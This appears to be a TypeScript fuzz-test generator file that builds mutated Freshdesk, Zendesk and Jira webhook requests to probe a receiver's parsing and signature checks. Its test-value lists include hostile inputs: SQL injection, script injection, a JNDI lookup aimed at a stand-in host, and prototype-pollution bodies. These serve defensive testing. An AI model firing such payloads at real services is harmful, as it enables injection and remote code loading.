/** fast-check generators of webhook requests: realistic bodies and their mutations, ids, values, request parts. */
import { readdirSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import type { Vendor } from '../../src/domain/ticket';
import { FIXTURES, fixtureText } from '../helpers/fixtures';
import { DELIVERY, EVENT_PREFIX, idOf, isObject, JSON_TYPES, NONCE, NOT_JSON_TYPES, type AuthMode, type Encoding, type Meaning, type Spec } from './fuzz-oracle';

export const VENDOR_LIST: readonly Vendor[] = ['freshdesk', 'zendesk', 'jira'];
const MAX_SAFE = Number.MAX_SAFE_INTEGER;

// ---------------------------------------------------------------------------------------------
// Realistic bodies

export interface Base {
  vendor: Vendor;
  name: string;
  /** The file as it is (pretty-printed or not): what truncation cuts. */
  text: string;
  /** Minified, to mutate. */
  value: unknown;
  /** Paths whose value decides what the body means (ids, event names, delivery ids): realistic mutations leave them alone. */
  protectedPaths: string[];
  shape: 'fd-flat' | 'fd-wrapper' | 'zd-event' | 'zd-trigger' | 'zd-other' | 'jira-issue' | 'jira-comment';
}

/** Bodies real Jira and Freshdesk instances delivered, kept in the repository (test/fixtures/README.md). */
function capturedFiles(dir: string): Array<{ name: string; text: string }> {
  return readdirSync(path.join(FIXTURES, 'captured', dir))
    .filter((f) => f.endsWith('.json'))
    .sort()
    .map((f) => ({ name: `captured/${dir}/${f}`, text: fixtureText(`captured/${dir}/${f}`) }));
}

function shapeOf(vendor: Vendor, value: Record<string, unknown>): Base['shape'] {
  if (vendor === 'freshdesk') return isObject(value.freshdesk_webhook) ? 'fd-wrapper' : 'fd-flat';
  if (vendor === 'zendesk') {
    if (typeof value.type !== 'string') return 'zd-trigger';
    return value.type.startsWith(`${EVENT_PREFIX}ticket.`) ? 'zd-event' : 'zd-other';
  }
  return isObject(value.issue) ? 'jira-issue' : 'jira-comment';
}

const PROTECTED: Record<Base['shape'], string[]> = {
  'fd-flat': ['ticket_id', 'freshdesk_webhook', 'event', 'triggered_event'],
  'fd-wrapper': ['freshdesk_webhook', 'freshdesk_webhook.ticket_id', 'freshdesk_webhook.event', 'freshdesk_webhook.triggered_event'],
  'zd-event': ['type', 'subject', 'id', 'detail', 'detail.id'],
  'zd-trigger': ['ticket_id', 'ticket', 'ticket.id', 'type', 'event'],
  'zd-other': ['type'],
  'jira-issue': ['webhookEvent', 'issue', 'issue.id'],
  'jira-comment': ['webhookEvent', 'issue', 'comment', 'comment.self'],
};

function loadBases(): Base[] {
  const files: Array<{ vendor: Vendor; name: string; text: string }> = [
    ...['freshdesk-ticket-updated.json', 'freshdesk-group-moved.json'].map((f) => ({ vendor: 'freshdesk' as Vendor, name: f, text: fixtureText(`webhooks/${f}`) })),
    ...capturedFiles('freshdesk-webhooks').map((f) => ({ vendor: 'freshdesk' as Vendor, ...f })),
    ...['zendesk-comment-added.json', 'zendesk-group-changed.json', 'zendesk-status-changed.json', 'zendesk-trigger.json', 'zendesk-user-created.json'].map(
      (f) => ({ vendor: 'zendesk' as Vendor, name: f, text: fixtureText(`webhooks/${f}`) }),
    ),
    { vendor: 'zendesk', name: 'zendesk trigger with a ticket object', text: JSON.stringify({ ticket: { id: '5158', status: 'open' }, event: 'ticket_updated' }) },
    ...['jira-issue-updated.json', 'jira-comment-created.json'].map((f) => ({ vendor: 'jira' as Vendor, name: f, text: fixtureText(`webhooks/${f}`) })),
    ...capturedFiles('jira-webhooks').map((f) => ({ vendor: 'jira' as Vendor, ...f })),
  ];
  return files.map(({ vendor, name, text }) => {
    const value = JSON.parse(text) as Record<string, unknown>;
    const shape = shapeOf(vendor, value);
    return { vendor, name, text, value, shape, protectedPaths: PROTECTED[shape] };
  });
}

export const BASES: readonly Base[] = loadBases();
export const basesOf = (vendor: Vendor, shapes?: Array<Base['shape']>) =>
  BASES.filter((b) => b.vendor === vendor && (!shapes || shapes.includes(b.shape)));

// ---------------------------------------------------------------------------------------------
// Values

/** Strings that break naive code: emoji, RTL, lone surrogates, NUL, BOM, combining marks, templates. */
export const NASTY_STRINGS: readonly string[] = [
  '😀',
  '👩‍👩‍👧‍👦',
  'שלום עולם',
  'مرحبا بالعالم',
  '\u202egnp.exe',
  '\ud800',
  '\udfff',
  'x\udbffy',
  '\u0000',
  'a\u0000b',
  '\ufeff',
  'e\u0301\u0301\u0301',
  '\u2028\u2029',
  'ẞİıǅ',
  '\\',
  '"',
  "'; DROP TABLE inbox_events; --",
  '</script><script>alert(1)</script>',
  '{{ticket.id}}',
  '%s%n%x',
  '${jndi:ldap://x.example/a}',
  '\r\n\t',
  ' ',
  '',
  'null',
  '__proto__',
  'NaN',
  '１２３',
  '٣٤٥',
];

export const PROTO_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'polluted',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupSetter__',
  'isAdmin',
  'length',
];

/** Bodies that pollute Object.prototype in code that merges them naively. */
const POLLUTERS: readonly string[] = [
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"prototype":{"polluted":"yes"}}',
  '{"__proto__":{"toString":"boom","valueOf":1,"isAdmin":true}}',
  '[{"__proto__":{"polluted":"yes"}}]',
  '{"__proto__":null}',
  '{"__proto__":[1,2,3]}',
  '{"a":{"__proto__":{"__proto__":{"polluted":"deep"}}}}',
];

export const stringArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
);

export const keyArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...PROTO_KEYS) },
  { weight: 2, arbitrary: stringArb },
);

const polluterArb: fc.Arbitrary<unknown> = fc.constantFrom(...POLLUTERS).map((t) => JSON.parse(t) as unknown);

/** A valid id in some spelling, and its canonical form. */
export const validIdArb: fc.Arbitrary<{ raw: unknown; canon: string }> = fc.oneof(
  fc.integer({ min: 1, max: MAX_SAFE }).map((n) => ({ raw: n, canon: String(n) })),
  fc.integer({ min: 1, max: MAX_SAFE }).map((n) => ({ raw: String(n), canon: String(n) })),
  fc.constantFrom(1, 5158, 4821, 10002, MAX_SAFE).map((n) => ({ raw: String(n), canon: String(n) })),
  fc.integer({ min: 1, max: 999_999 }).map((n) => ({ raw: ` ${n}\t`, canon: String(n) })),
  // Leading zeros: the same ticket, so the same entity key.
  fc.tuple(fc.integer({ min: 1, max: 99_999 }), fc.integer({ min: 1, max: 8 })).map(([n, z]) => ({ raw: `${'0'.repeat(z)}${n}`, canon: String(n) })),
);

/** Text spliced raw into the JSON (numbers JSON.stringify cannot write), marked inside a string. */
const RAW = (text: string) => `@@RAW@@${text}@@`;
export const unraw = (json: string) => json.replace(/"@@RAW@@([-+.eE0-9]+)@@"/g, '$1');

/** Ids of every wrong type and range: objects, arrays, booleans, null, negatives, floats, 20 digits, 25-digit strings, unicode digits. */
export const invalidIdArb: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    true,
    false,
    {},
    [],
    [5158],
    { id: 5158 },
    0,
    -1,
    -5158,
    1.5,
    0.1,
    1e21,
    2 ** 53,
    Number.MAX_VALUE,
    RAW('12345678901234567890'),
    RAW('123456789012345678901234567890'),
    RAW('1e400'),
    RAW('-0'),
    RAW('5158.0000000000001'),
    '',
    ' ',
    '0',
    '0000',
    '-5',
    '+5',
    '1.5',
    '1e3',
    '0x1F',
    '12abc',
    '{{ticket.id}}',
    '１２３',
    '٣٤',
    '5158\u0000',
    '\u0000',
    '9007199254740992',
    '12345678901234567890',
    '1234567890123456789012345',
    '00000000000000042',
    '5158 5159',
    '5,158',
    'NaN',
    'Infinity',
    '😀',
    '\ud800',
    'SUP-123',
  ),
  fc.integer({ min: -MAX_SAFE, max: 0 }),
  fc.double({ noInteger: true, noNaN: true, noDefaultInfinity: true }),
  fc.bigInt({ min: 10n ** 16n, max: 10n ** 30n }).map((b) => RAW(b.toString())),
  fc.bigInt({ min: 10n ** 16n, max: 10n ** 30n }).map((b) => b.toString()),
  fc.string({ unit: 'binary', maxLength: 12 }).filter((s) => idOf(s) === null),
  fc.dictionary(keyArb, fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
);

/** Any JSON value a field could hold, wrong types included. */
export const valueArb: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: stringArb },
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3, stringUnit: 'binary' }) },
  { weight: 1, arbitrary: polluterArb },
  { weight: 1, arbitrary: invalidIdArb },
  { weight: 1, arbitrary: validIdArb.map((v) => v.raw) },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(Number.MAX_SAFE_INTEGER, -0, 1e-300, 1e300, true, false, null, [], {}) },
);

// ---------------------------------------------------------------------------------------------
// Mutations of a realistic body

export interface Mutation {
  /** Child indices (modulo the container's size) from the root to the node to change. */
  walk: number[];
  op: 'add' | 'set' | 'delete';
  key: string;
  pick: number;
  value: unknown;
}

export const mutationArb = (keys: fc.Arbitrary<string> = keyArb, values: fc.Arbitrary<unknown> = valueArb): fc.Arbitrary<Mutation> =>
  fc.record({
    walk: fc.array(fc.nat(), { maxLength: 6 }),
    op: fc.constantFrom<Mutation['op']>('add', 'set', 'delete'),
    key: keys,
    pick: fc.nat(),
    value: values,
  });

/** Sets an own property (a `__proto__` key stays a key, as JSON.parse would make it). */
export function define(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

const clone = <T>(v: T): T => (v === undefined ? v : (JSON.parse(JSON.stringify(v)) as T));

export function mutate(root: unknown, mutations: Mutation[], protectedPaths: string[]): unknown {
  const out = clone(root);
  const isProtected = (p: string) => protectedPaths.includes(p);
  for (const m of mutations) {
    let node: unknown = out;
    let at = '';
    for (const step of m.walk) {
      if (node === null || typeof node !== 'object') break;
      const keys = Object.keys(node);
      if (keys.length === 0) break;
      const k = keys[step % keys.length] as string;
      const child = (node as Record<string, unknown>)[k];
      if (child === null || typeof child !== 'object') break;
      node = child;
      at = at ? `${at}.${k}` : k;
    }
    if (node === null || typeof node !== 'object') continue;
    const here = (k: string) => (at ? `${at}.${k}` : k);
    // A copy: generated values may be shared between mutations (a constant `[]`), and a later
    // mutation must not walk into and change an earlier one's value (or make it circular).
    const value = clone(m.value);
    if (Array.isArray(node)) {
      if (m.op === 'add') node.push(value);
      else if (node.length > 0 && m.op === 'set') node[m.pick % node.length] = value;
      else if (node.length > 0) node.splice(m.pick % node.length, 1);
      continue;
    }
    const obj = node as Record<string, unknown>;
    const keys = Object.keys(obj);
    if (m.op === 'add') {
      if (!isProtected(here(m.key))) define(obj, m.key, value);
      continue;
    }
    if (keys.length === 0) continue;
    const k = keys[m.pick % keys.length] as string;
    if (isProtected(here(k))) continue;
    if (m.op === 'set') define(obj, k, value);
    else delete obj[k];
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Bodies with the per-request placeholders

/**
 * The body as JSON text, with a per-request nonce (so no two generated bodies are the same
 * content) and, for Zendesk event deliveries, a fresh event id; raw number markers unwrapped.
 */
export function templateOf(vendor: Vendor, value: unknown, options: { freshEventId?: boolean } = {}): string {
  if (!isObject(value)) return unraw(JSON.stringify(value));
  const body: Record<string, unknown> = {};
  define(body, 'fuzz_nonce', NONCE);
  for (const k of Object.keys(value)) define(body, k, value[k]);
  if (vendor === 'zendesk' && options.freshEventId !== false && typeof value.type === 'string' && typeof value.id === 'string') define(body, 'id', DELIVERY);
  return unraw(JSON.stringify(body));
}

// ---------------------------------------------------------------------------------------------
// Request parts

export const pathArb = (vendor: Vendor) => fc.constantFrom(`/webhooks/${vendor}`, `/webhooks/${vendor}/`, `/webhooks/${vendor}/default`);

const REFUSED_AUTH: Record<Vendor, AuthMode[]> = {
  freshdesk: ['missing', 'wrong-secret', 'other-vendor', 'empty', 'duplicate-header', 'basic-no-colon', 'malformed'],
  zendesk: ['missing', 'wrong-secret', 'other-vendor', 'other-body', 'empty', 'duplicate-header', 'stale', 'future', 'bad-timestamp', 'missing-timestamp', 'test-secret', 'no-timestamp-in-mac', 'malformed'],
  jira: ['missing', 'wrong-secret', 'other-vendor', 'other-body', 'empty', 'duplicate-header', 'malformed', 'bad-timestamp'],
};
const GOOD_AUTH: Record<Vendor, AuthMode[]> = {
  freshdesk: ['valid', 'valid-basic'],
  zendesk: ['valid'],
  jira: ['valid', 'valid-upper-hex'],
};

export const refusedAuthArb = (vendor: Vendor) => fc.constantFrom(...REFUSED_AUTH[vendor]);
export const goodAuthArb = (vendor: Vendor) => fc.constantFrom(...GOOD_AUTH[vendor]);
/** Mostly signed right, so the fuzz reaches the parsers behind the check. */
export const authArb = (vendor: Vendor, goodWeight = 9) =>
  fc.oneof({ weight: goodWeight, arbitrary: goodAuthArb(vendor) }, { weight: 1, arbitrary: refusedAuthArb(vendor) });

export const jsonTypeArb = fc.constantFrom(...JSON_TYPES);
export const contentTypeArb: fc.Arbitrary<string | null> = fc.oneof(
  { weight: 2, arbitrary: jsonTypeArb },
  { weight: 2, arbitrary: fc.constantFrom<string | null>(null, ...NOT_JSON_TYPES) },
);
export const encodingArb = fc.constantFrom<Encoding>('none', 'identity', 'gzip', 'deflate', 'br', 'gzip-corrupt', 'unknown');

export interface SpecParts {
  gen: string;
  vendor: Vendor;
  body: Spec['body'];
  auth?: fc.Arbitrary<AuthMode>;
  contentType?: fc.Arbitrary<string | null>;
  encoding?: fc.Arbitrary<Encoding>;
  replay?: fc.Arbitrary<boolean>;
  /** What the generator meant the body to be; the oracle must agree once it is materialised. */
  intent?: Meaning;
}

/** A whole request around a body: path, credentials, headers, framing, replay. */
export function specArb(parts: SpecParts): fc.Arbitrary<Spec> {
  return fc
    .record({
      path: pathArb(parts.vendor),
      auth: parts.auth ?? authArb(parts.vendor),
      contentType: parts.contentType ?? jsonTypeArb,
      encoding: parts.encoding ?? fc.constantFrom<Encoding>('none', 'none', 'none', 'identity'),
      deliveryHeader: fc.constantFrom<Spec['deliveryHeader']>('fresh', 'fresh', 'fresh', 'none', 'empty'),
      framing: fc.constantFrom<Spec['framing']>('length', 'length', 'length', 'chunked'),
      // About a third are sent twice: the vendor's redelivery of the same bytes and signature.
      replay: parts.replay ?? fc.integer({ min: 0, max: 9 }).map((n) => n < 3),
    })
    .map((r) => ({
      gen: parts.gen,
      vendor: parts.vendor,
      body: parts.body,
      semantic: parts.intent?.semantic ?? 'unknown',
      entityKey: parts.intent?.entityKey,
      errorMentions: parts.intent?.errorMentions,
      ...r,
    }));
}

export const vendorArb = fc.constantFrom(...VENDOR_LIST);
